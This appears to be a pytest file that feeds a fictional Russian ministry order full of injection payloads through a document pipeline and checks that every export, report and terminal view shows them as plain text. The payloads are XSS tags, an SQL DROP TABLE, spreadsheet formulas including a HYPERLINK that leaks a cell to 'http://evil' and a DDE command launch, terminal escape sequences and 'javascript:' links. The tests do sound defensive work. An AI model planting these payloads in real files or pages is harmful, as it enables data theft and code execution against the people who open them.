"""Hostile document text through every output (issue 13, section 4).

An order whose agency name, touchpoint names and definitions carry HTML
(``<img onerror>``, ``<script>``), SQL, spreadsheet formulas
(``=HYPERLINK(…)``, ``=1+1``, ``+cmd|…``, ``@SUM(…)``) and terminal escape
sequences (OSC title, clear screen) goes through extract, ingest, show,
versions, export (CSV, XLSX, JSON), compare (HTML, XLSX, Markdown) and the
review pages. Each output keeps the text as text: no formula cell in any
XLSX (the sheet XML has no ``<f>``), a CSV cell that a spreadsheet would run
starts with ``'``, no live tag or event handler from the document in the
HTML, no raw tag in the Markdown, no ESC sequence but colours on the
terminal; the store keeps its tables.

A second case gives the outputs control characters the readers would have
removed (NUL, ESC, C1 CSI, BEL) in an extraction JSON as an older version
or another tool may have written it.
"""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import main

IMG = "<img src=x onerror=alert()>"          # no digit: the agency header block must hold none
SCRIPT = "<script>alert(document.cookie)</script>"
SQL = "'); DROP TABLE extractions;--"
HYPERLINK = '=HYPERLINK("http://evil/?leak="&A1,"x")'
OSC_CLEAR = "\x1b]0;pwn\x07\x1b[2J"

ORDER = f"""=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ {IMG}
РЕСПУБЛИКИ КАРЕЛИЯ

ПРИКАЗ

12.02.2025 № 17-П

г. Петрозаводск

Об утверждении Перечня точек взаимодействия с клиентом Министерства цифрового развития Республики Карелия

В целях реализации Стандарта клиентоцентричности, утвержденного распоряжением Правительства Республики Карелия от 10 января 2025 года № 5-р, приказываю:

1. Утвердить прилагаемый Перечень точек взаимодействия с клиентом Министерства цифрового развития Республики Карелия (далее - Министерство).
2. Для целей настоящего приказа используются следующие термины и определения:
- **Клиент** - физическое или юридическое лицо {SCRIPT}, взаимодействующее с Министерством с целью удовлетворения своих потребностей;
- **Внутренний клиент** - {HYPERLINK} государственные служащие, работники Министерства{OSC_CLEAR};
- **Клиентский путь** - =1+1 последовательность действий клиента от момента возникновения потребностей до момента их удовлетворения{SQL};
3. Ответ на обращение в социальных сетях дается в течение четырех часов.
4. Актуальная версия Перечня размещается на официальном сайте Министерства не позднее 10 рабочих дней с момента внесения изменений.
5. Контроль за исполнением настоящего приказа оставляю за собой.

Министр                                                            И.И. Иванов

Перечень
точек взаимодействия с клиентом Министерства цифрового развития Республики Карелия

№	Направление деятельности	Наименование услуги/функции	Точка взаимодействия	Удовлетворяемые потребности клиента	Особенности взаимодействия с клиентом (в цифровой или офлайн-точках)
1	2	3	4	5	6
1.	Рассмотрение обращений и запросов	Прием и регистрация обращений	+cmd|' /C calc'!A0 Электронная почта	Получение ответа	Цифровая точка
2.	Рассмотрение обращений и запросов	Консультирование	@SUM(1) Телефонная связь{OSC_CLEAR}	Получение консультации	Офлайн - точка
3.	Рассмотрение обращений и запросов	Личный прием граждан	{SCRIPT} Приемная Министерства {SQL}	Запись на личный прием	Офлайн - точка
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SGR = re.compile(r"\x1b\[[0-9;]*m")   # the colours click adds: the only escape sequences allowed


def run(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), color=True)
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The order extracted, ingested, shown, exported and compared."""
    base = tmp_path_factory.mktemp("injection")
    src = base / "karelia-digital-ministry-2025-02-12-17-p.txt"
    src.write_text(ORDER, encoding="utf-8")
    out, db = base / "out", base / "registry.sqlite"
    run("extract", str(src), "-o", str(out), "-q")
    run("ingest", str(src), "--db", str(db), "--outputs", str(out), "-q")
    files = {"json": out / f"{src.stem}.json", "db": db, "base": base}
    files["show"] = run("show", str(files["json"]), "--color")
    files["versions"] = run("versions", "--db", str(db))
    for fmt in ("csv", "xlsx", "json"):
        run("export", "--db", str(db), "--format", fmt, "-o", str(base / f"registry.{fmt}"))
    run("compare", "--db", str(db), "-o", str(base / "report"), "-q")
    return files


def test_the_payloads_are_read_as_document_text(hostile):
    """The test is only worth something if the hostile text reached the values."""
    doc = json.loads(hostile["json"].read_text(encoding="utf-8"))["documents"][0]
    assert doc["meta"]["agency"].startswith("=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ <img src=x onerror=alert()>")
    names = [t["name"] for t in doc["touchpoints"]]
    assert names[0] == "+cmd|' /C calc'!A0 Электронная почта" and names[1].startswith("@SUM(1) Телефонная связь")
    assert names[2] == f"{SCRIPT} Приемная Министерства {SQL}"
    definitions = {d["term"]: d["definition"] for d in doc["definitions"]}
    assert definitions["Внутренний клиент"].startswith(HYPERLINK)
    assert definitions["Клиентский путь"].startswith("=1+1 ") and definitions["Клиентский путь"].endswith(SQL)


def test_the_store_keeps_its_tables_and_the_sql_as_text(hostile):
    conn = sqlite3.connect(hostile["db"])
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"extractions", "documents", "touchpoints"} <= tables
    assert conn.execute("SELECT COUNT(*) FROM extractions").fetchone()[0] == 1
    exported = json.loads((hostile["base"] / "registry.json").read_text(encoding="utf-8"))
    # JSON is data: the text kept exactly as printed
    assert f"{SCRIPT} Приемная Министерства {SQL}" in [r["name"] for r in exported["touchpoints"]]


def test_terminal_gets_no_escape_sequence_from_the_document(hostile):
    for text in (hostile["show"], hostile["versions"]):
        assert "\x07" not in text and "\x00" not in text
        assert "\x1b" not in SGR.sub("", text), [m for m in re.findall(r".{10}\x1b.{6}", SGR.sub("", text))]
    assert "+cmd|' /C calc'!A0 Электронная почта" in SGR.sub("", hostile["show"])
    assert "=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ <img src=x onerror=alert()>" in hostile["versions"]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile):
    rows = list(csv.DictReader((hostile["base"] / "registry.csv").open(encoding="utf-8-sig")))
    assert len(rows) == 3
    cells = [v for r in rows for v in r.values() if v]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert {r["agency"] for r in rows} == {"'=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ <img src=x onerror=alert()> РЕСПУБЛИКИ КАРЕЛИЯ"}
    names = [r["name"] for r in rows]
    assert names[:2] == ["'+cmd|' /C calc'!A0 Электронная почта", names[1]] and names[1].startswith("'@SUM(1) ")
    thresholds = list(csv.DictReader((hostile["base"] / "registry.thresholds.csv").open(encoding="utf-8-sig")))
    assert thresholds and all(r["agency"].startswith("'=") for r in thresholds)
    assert {r["value"] for r in thresholds} == {"4", "10"}  # numbers stay numbers


NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _workbook(path: Path) -> tuple[list[str], list[str]]:
    """(formulas, cell texts) of every sheet, read from the saved file's XML."""
    import xml.etree.ElementTree as ET

    formulas, texts = [], []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            raw = z.read(name)
            assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]", raw)  # what XML cannot hold
            root = ET.fromstring(raw)
            formulas += [f.text or "" for f in root.iter(f"{NS}f")]
            for c in root.iter(f"{NS}c"):
                texts.append("".join(t.text or "" for t in c.iter(f"{NS}t")))
    return formulas, texts


def test_xlsx_export_writes_formulas_as_text(hostile):
    formulas, texts = _workbook(hostile["base"] / "registry.xlsx")
    assert formulas == []
    assert "=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ <img src=x onerror=alert()> РЕСПУБЛИКИ КАРЕЛИЯ" in texts
    assert "+cmd|' /C calc'!A0 Электронная почта" in texts
    assert not [t for t in texts if "\x1b" in t or "\x07" in t]


def test_comparison_xlsx_writes_formulas_as_text(hostile):
    formulas, texts = _workbook(hostile["base"] / "report" / "report.xlsx")
    assert formulas == []
    assert [t for t in texts if t.startswith(HYPERLINK + " государственные служащие")]
    assert [t for t in texts if t.startswith("=1+1 последовательность")]
    assert "=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ <img src=x onerror=alert()> РЕСПУБЛИКИ КАРЕЛИЯ" in texts


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _parsed(html: str) -> _Tags:
    p = _Tags()
    p.feed(html)
    return p


def _no_live_content(html: str) -> _Tags:
    p = _parsed(html)
    assert not [t for t, _ in p.tags if t in ("img", "iframe", "object", "embed")]
    assert not [(t, a) for t, a in p.tags if any(k.startswith("on") for k in a)]
    assert not [a for _, a in p.tags if any((v or "").strip().lower().startswith("javascript:") for v in a.values())]
    return p


def test_comparison_html_shows_the_payloads_as_text(hostile):
    html = (hostile["base"] / "report" / "report.html").read_text(encoding="utf-8")
    p = _no_live_content(html)
    scripts = [a for t, a in p.tags if t == "script"]
    assert scripts == [{}]  # the report's own inline script, nothing from the document
    text = "".join(p.text)
    assert "=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ <img src=x onerror=alert()>" in text  # shown, as text
    assert "&lt;img src=x onerror=alert()&gt;" in html
    assert "<svg" in html and "<svg onload" not in html.lower()


def test_comparison_markdown_has_no_raw_tag_or_link(hostile):
    md = (hostile["base"] / "report" / "report.md").read_text(encoding="utf-8")
    assert "<img" not in md and "<script" not in md
    assert "=МИНИСТЕРСТВО ЦИФРОВОГО РАЗВИТИЯ &lt;img src=x onerror=alert()&gt;" in md
    # a table row stays one row: every row of the agencies table has the header's number of cells
    lines = md.splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("| Ведомство | Регион | Код региона"))
    header, row = lines[at], lines[at + 2]
    assert row.startswith("| =МИНИСТЕРСТВО")
    cells = lambda line: len(re.split(r"(?<!\\)\|", line))  # noqa: E731
    assert cells(row) == cells(header) == 12


def test_review_pages_show_the_payloads_as_text(hostile, tmp_path):
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from pipeline.review.app import create_app

    client = TestClient(create_app(hostile["db"], cache=tmp_path / "cache", allowed_hosts=["testserver"]))
    queue = client.get("/").text
    _no_live_content(queue)
    assert "&lt;img src=x onerror=alert()&gt;" in queue
    doc = re.search(r'href="(/doc/[^"#]+)"', queue).group(1)
    page = client.get(doc).text
    p = _no_live_content(page)
    assert all(a.get("src", "").startswith("/static/") or a.get("type") == "application/json" or not a.get("src")
               for t, a in p.tags if t == "script")
    assert "<script>alert(document.cookie)</script>" not in page


# ------------------------------------------------ controls the readers would drop


def test_control_characters_in_an_extraction_json_reach_no_output(hostile, tmp_path):
    """NUL, BEL, ESC and the 8-bit CSI (U+009B) put into the JSON as another tool might
    write it: show escapes them, the comparison's XLSX and HTML are written without them."""
    data = json.loads(hostile["json"].read_text(encoding="utf-8"))
    doc = data["documents"][0]
    doc["meta"]["agency"] = "Министерство\x00 цифрового\x9b2J развития\x1b]0;pwn\x07 Республики Карелия"
    doc["definitions"][0]["definition"] = "=1+1\x00 физическое\x1b[2J лицо"
    doc["touchpoints"][0]["name"] = "Электронная\x00 почта\x1b]8;;http://evil\x07"
    folder = tmp_path / "json"
    folder.mkdir()
    path = folder / hostile["json"].name
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    shown = run("show", str(path), "--color")
    plain = SGR.sub("", shown)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", plain)
    assert "Министерство\\x00 цифрового\\x9b2J развития\\x1b]0;pwn\\x07 Республики Карелия" in plain
    assert "Электронная\\x00 почта\\x1b]8;;" in plain  # the column is 40 characters wide
    run("compare", "--from", str(folder), "-o", str(tmp_path / "report"), "-q")
    formulas, texts = _workbook(tmp_path / "report" / "report.xlsx")
    assert formulas == []
    assert "Министерство цифрового\x9b2J развития]0;pwn Республики Карелия" in texts
    md = (tmp_path / "report" / "report.md").read_text(encoding="utf-8")
    assert "<img" not in md


def test_a_source_path_never_becomes_a_script_link(tmp_path):
    """Links are built from the source path an extraction names (a JSON folder may come from anyone)."""
    from pipeline.report.links import Linker
    from pipeline.report.tables import Src

    for path in ("javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)//x.txt", "data:text/html,<script>x</script>"):
        url = Linker(tmp_path / "report").href(Src(path, "d1", line=3))
        assert ":" not in url.split("#")[0] and "<" not in url, url


def test_registry_workbook_drops_what_xml_cannot_hold_and_keeps_formulas_as_text(tmp_path):
    """The registry export's writer given text an older store may hold: no IllegalCharacterError."""
    from pipeline.report.safe import csv_text
    from pipeline.report.xlsx import write_workbook

    path = write_workbook(tmp_path / "r.xlsx", [("Точки", ["agency", "name", "value"], [
        ["Министерство\x00 цифрового\x1b]0;pwn\x07 развития", "=1+1", 4.0],
        ["#N/A", "@SUM(1)\x0b", "2024-01-18"]])])
    formulas, texts = _workbook(path)
    assert formulas == []
    # the header, then the rows; a number and a date are number cells (no inline text)
    assert texts[3:] == ["Министерство цифрового]0;pwn развития", "=1+1", "", "#N/A", "@SUM(1)", ""]
    assert [csv_text(v) for v in ("=1+1", "+7 (495)", "-5", "@x", "\tx", "обычный текст", 4.0, None)] == \
        ["'=1+1", "'+7 (495)", "'-5", "'@x", "'\tx", "обычный текст", 4.0, None]


def test_diff_prints_hostile_changes_as_text(hostile, tmp_path):
    """`registry diff` between the order and an edited copy: the terminal gets no escape
    sequence but colours, the Markdown no raw tag and no extra table cell."""
    data = json.loads(hostile["json"].read_text(encoding="utf-8"))
    doc = data["documents"][0]
    doc["touchpoints"][1]["name"] = "Телефон\x1b]0;pwn\x07 <img src=x onerror=alert()> | ещё ячейка"
    doc["definitions"][0]["definition"] += " [ссылка](javascript:alert())"
    edited = tmp_path / "edited.json"
    edited.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    old = f"{hostile['json']}#d1"
    text = run("diff", old, f"{edited}#d1", "--color")
    assert "\x1b" not in SGR.sub("", text) and "\x07" not in text
    assert "Телефон\\x1b]0;pwn\\x07 <img src=x onerror=alert()>" in SGR.sub("", text)
    md = run("diff", old, f"{edited}#d1", "--format", "md")
    assert "<img" not in md and not re.search(r"(?<!\\)\]\(javascript:", md)
    assert "\\[ссылка\\](javascript:alert())" in md   # brackets escaped: text, not a link
    assert "&lt;img src=x onerror=alert()&gt; \\| ещё ячейка" in md
